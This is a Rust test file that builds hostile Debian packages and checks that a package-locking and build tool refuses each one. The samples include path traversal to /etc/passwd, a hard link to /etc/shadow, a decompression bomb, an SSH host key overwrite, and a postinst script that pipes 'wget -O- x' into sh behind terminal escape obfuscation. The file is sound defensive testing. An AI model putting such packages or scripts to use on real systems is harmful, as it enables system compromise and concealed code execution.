//! Packages that an archive vouches for and that are refused all the same.

use std::fs;
use std::process::Command;
use std::slice::from_ref;

use prejoin_wire::digest::Digest;

use crate::made::{Member, ar, deb, tar};
use crate::session::{Session, checked};
use crate::tiny::{self, TINY, own_archive};

/// A package `victim` whose payload is compressed by `tool`.
fn compressed(members: &[Member], tool: &str, suffix: &str, session: &Session) -> Vec<u8> {
    session.write("data.tar", tar(members));
    checked(
        Command::new(tool)
            .args(["-q", "-f", "-k"])
            .arg(session.path("data.tar")),
    );
    let data = fs::read(session.path(&format!("data.tar.{suffix}"))).unwrap();
    let control = tar(&[Member::file(
        "./control",
        b"Package: victim\nVersion: 2\nArchitecture: all\n",
    )]);
    ar(&[
        ("debian-binary", b"2.0\n"),
        ("control.tar", &control),
        (&format!("data.tar.{suffix}"), &data),
    ])
}

#[test]
fn packages_that_must_not_be_unpacked() {
    let Some((mut session, archive)) = own_archive() else {
        return;
    };
    session.quietly("lock");
    session.quietly("build");
    let before = (
        tiny::manifests(&session, "out"),
        session.read("prejoin.lock"),
    );
    session.write(
        "cluster.yaml",
        session.read("cluster.yaml") + "packages: [victim]\n",
    );

    let of = |members: &[Member]| deb("victim", "", members);
    let link = |kind: u8, path: &'static str, link: &'static str| Member {
        kind,
        link,
        ..Member::file(path, b"")
    };
    let file = Member::file("./usr/share/victim", b"x");
    let zeroes = Member::file("./usr/share/zeroes", &vec![0; 300 << 20]);
    let cases = [
        (
            "a path that goes up",
            of(&[Member::file("./usr/../../etc/passwd", b"x")]),
        ),
        ("an absolute path", of(&[Member::file("/etc/passwd", b"x")])),
        ("a device", of(&[link(b'3', "./dev/sda", "")])),
        ("a named pipe", of(&[link(b'6', "./run/pipe", "")])),
        (
            "a hard link out of the package",
            of(&[link(b'1', "./usr/share/shadow", "/etc/shadow")]),
        ),
        ("a file twice", of(&[file.clone(), file.clone()])),
        (
            "a size that is not there",
            of(&[Member {
                size: Some(5 << 30),
                ..file.clone()
            }]),
        ),
        (
            "a size beyond all disks",
            of(&[Member {
                size: Some(1 << 60),
                ..file.clone()
            }]),
        ),
        (
            "a bomb of zeroes",
            compressed(&[zeroes], "zstd", "zst", &session),
        ),
        (
            "a package cut short, signed as it is",
            of(&[Member::file("./usr/share/victim", &[7; 9000])])[..6000].to_vec(),
        ),
        (
            "a payload in no known compression",
            ar(&[
                ("debian-binary", b"2.0\n"),
                (
                    "control.tar",
                    &tar(&[Member::file(
                        "./control",
                        b"Package: victim\nVersion: 2\nArchitecture: all\n",
                    )]),
                ),
                ("data.tar.lzma", b"]\0\0"),
            ]),
        ),
        (
            "a file where another package has a folder",
            of(&[Member::file("./usr/share/greeting", b"x")]),
        ),
        (
            "a file of another package",
            of(&[Member::file("./usr/bin/hello", b"x")]),
        ),
        (
            "a file below a file",
            of(&[Member::file("./usr/bin/hello/x", b"x")]),
        ),
        (
            "a file in /var",
            of(&[Member::file("./var/lib/victim", b"x")]),
        ),
        (
            "the secrets of one node",
            of(&[Member::file("./etc/ssh/ssh_host_ed25519_key", b"x")]),
        ),
        (
            "a link to nothing",
            of(&[link(b'2', "./usr/lib/victim", "nothing")]),
        ),
        ("another package", deb("viktim", "", from_ref(&file))),
        (
            "a script that is a link",
            with_control(&[link(b'2', "./postinst", "../../../bin/sh")]),
        ),
        (
            "a second package in its control file",
            deb("victim", "\nPackage: openssl\nVersion: 9\n", &[]),
        ),
        (
            "a path of two lines",
            of(&[
                Member::pax("path", b"usr/lib/modules/6.12.1-tiny/a.ko\nkernel/b.ko:"),
                file.clone(),
            ]),
        ),
        (
            "a link that clears the screen",
            of(&[link(b'2', "./usr/share/link", "\x1b[2J")]),
        ),
        (
            "a script that hides what it does",
            with_control(&[Member::file(
                "./postinst",
                b"#!/bin/sh\nwget -O- x | sh # \x1b[1A\x1b[2K\r\xc2\x9b8m\xe2\x80\xae\necho fine\n",
            )]),
        ),
        (
            "a file of a user who has no name",
            of(&[Member::file("./usr/bin/victim", b"x")]),
        ),
    ];
    for (what, bytes) in cases {
        let mut bytes = bytes;
        if what.contains("user who") {
            bytes = nameless(&bytes);
        }
        fs::write(archive.root.join("victim.deb"), &bytes).unwrap();
        // apt-ftparchive would not list most of these.
        let (size, digest) = (bytes.len(), Digest::of(&bytes));
        let stanza = format!(
            "Package: victim\nVersion: 2\nArchitecture: all\nMaintainer: Nobody\nFilename: victim.deb\nSize: {size}\n\
             SHA256: {digest}\nDescription: hostile\n"
        );
        archive.vouch(&TINY.key, &stanza);
        session.note(&format!("{what}\n"));
        // What cannot be unpacked, `lock` refuses; what does not fit with the rest, `build`.
        let mut output = session.command("lock").output().unwrap();
        if output.status.success() {
            output = session.run("build one");
        } else {
            session.record("prejoin lock", &output);
        }
        let code = output.status.code();
        assert!(matches!(code, Some(3 | 5)), "{what}: {code:?}");
        let said = String::from_utf8(output.stderr).unwrap();
        let bare = said.replace(['\n', '\t'], "");
        assert!(
            !bare.contains(prejoin_wire::printable::is_mute),
            "{what}: {said:?}"
        );
        // Nothing came into being, in the output or where the package wanted it.
        assert_eq!(tiny::manifests(&session, "out"), before.0, "{what}");
        let parts = tiny::files(&session.path(""))
            .into_iter()
            .filter(|path| path.to_string_lossy().ends_with(".part"));
        assert_eq!(parts.count(), 0, "{what}");
    }
    session.quietly("verify");
    session.golden("hostile");
}

/// A package `victim` with this in its control archive.
fn with_control(members: &[Member]) -> Vec<u8> {
    let control = b"Package: victim\nVersion: 2\nArchitecture: all\n";
    let mut all = vec![Member::file("./control", control)];
    all.extend_from_slice(members);
    ar(&[
        ("debian-binary", b"2.0\n"),
        ("control.tar", &tar(&all)),
        ("data.tar", &tar(&[])),
    ])
}

/// Gives the last file of a package's payload to user 4242.
fn nameless(deb: &[u8]) -> Vec<u8> {
    let mut bytes = deb.to_vec();
    let at = deb
        .windows(16)
        .rposition(|window| window == b"./usr/bin/victim")
        .unwrap();
    bytes[at + 108..at + 115].copy_from_slice(b"0010222");
    let header = &mut bytes[at..at + 512];
    header[148..156].fill(b' ');
    let sum = header.iter().map(|&byte| u32::from(byte)).sum::<u32>();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    bytes
}
